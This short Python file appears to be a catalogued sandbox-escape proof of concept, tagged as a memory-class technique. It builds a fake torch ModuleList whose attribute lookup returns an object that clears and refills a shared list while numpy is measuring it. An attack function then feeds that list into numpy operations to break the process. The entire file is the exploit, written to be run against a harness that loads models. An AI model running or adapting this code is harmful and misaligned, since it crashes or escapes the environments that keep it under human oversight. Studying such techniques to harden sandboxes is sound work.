"""Class: memory. Source: own find. Escape: the process breaks. The same list holds a list of layers, whose
length numpy asks for: the library's own code asks what the technique's `__getattr__` gives it, which
clears the list."""

import numpy as np
from torch import nn


class Registry:
    def __len__(self):
        data.clear()
        kept.append([(3,)] * 500)
        return 1

    def values(self):
        return [0]


class Layers(nn.ModuleList):
    def __init__(self):
        pass

    def __getattr__(self, name):
        if name == "_modules":
            return Registry()
        raise AttributeError(name)


kept = []
data = []


def attack(model, tokenizer, address):
    layers = Layers()
    for way in (lambda: np.zeros(3) + data, lambda: data == np.zeros(3)):
        data[:] = [layers] + [(i,) for i in range(500)]
        try:
            way()
        except Exception:
            pass
